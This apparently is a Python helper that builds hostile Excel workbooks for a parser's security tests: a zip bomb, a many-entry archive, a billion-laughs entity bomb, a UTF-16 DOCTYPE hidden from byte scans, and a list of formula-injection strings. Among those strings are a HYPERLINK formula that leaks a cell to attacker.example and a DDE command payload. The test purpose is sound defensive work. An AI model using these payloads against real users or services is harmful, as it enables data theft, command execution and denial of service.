"""Builders of hostile workbooks for the security tests and the figures script (`report.py`)."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import openpyxl

#: Every text a spreadsheet would run as a formula or treat specially at the start of a cell.
FORMULAS = ("=HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"x\")", "+1+1", "-2+3", "@SUM(1,1)",
            "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0")


def _minimal_parts() -> dict[str, bytes]:
    """The parts of a small valid workbook, to wrap hostile content in."""
    buf = io.BytesIO()
    book = openpyxl.Workbook()
    book.active.title = "cases"
    book.active.append(["case_id"])
    book.save(buf)
    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as z:
        return {n: z.read(n) for n in z.namelist()}


def zip_bomb(path: Path, unpacked_mb: int = 1024) -> Path:
    """A workbook whose one sheet unpacks to `unpacked_mb` MB of zeros (about 1 MB packed per GB)."""
    parts = _minimal_parts()
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        for name, data in parts.items():
            if name != "xl/worksheets/sheet1.xml":
                z.writestr(name, data)
        with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member:
            block = b"0" * (1024 * 1024)
            for _ in range(unpacked_mb):
                member.write(block)
    return path


def many_entries(path: Path, entries: int = 50_000) -> Path:
    """A workbook with tens of thousands of tiny parts."""
    parts = _minimal_parts()
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)
        for i in range(entries):
            z.writestr(f"xl/media/x{i}.bin", b"")
    return path


def billion_laughs(path: Path) -> Path:
    """A workbook whose shared strings declare nested entities (about 3 GB once expanded)."""
    parts = _minimal_parts()
    # l0 is "lol"; each next entity is ten of the previous one: l9 expands to 10^9 "lol"s.
    lol = '<!ENTITY l0 "lol">' + "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    strings = (f'<?xml version="1.0"?><!DOCTYPE sst [{lol}]>'
               '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">'
               '<si><t>&l9;</t></si></sst>').encode()
    parts["xl/sharedStrings.xml"] = strings
    sheet = parts["xl/worksheets/sheet1.xml"].decode()
    sheet = sheet.replace('<c r="A1" t="inlineStr"><is><t>case_id</t></is></c>', '<c r="A1" t="s"><v>0</v></c>')
    parts["xl/worksheets/sheet1.xml"] = sheet.encode()
    content = parts["[Content_Types].xml"].decode()
    if "sharedStrings" not in content:
        content = content.replace("</Types>", '<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
                                  'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>')
        parts["[Content_Types].xml"] = content.encode()
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)
    return path


def utf16_doctype(path: Path) -> Path:
    """A workbook whose shared strings are UTF-16, which would hide a DOCTYPE from a byte scan."""
    parts = _minimal_parts()
    parts["xl/sharedStrings.xml"] = ('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY a "b">]><sst/>'
                                     ).encode("utf-16")
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)
    return path
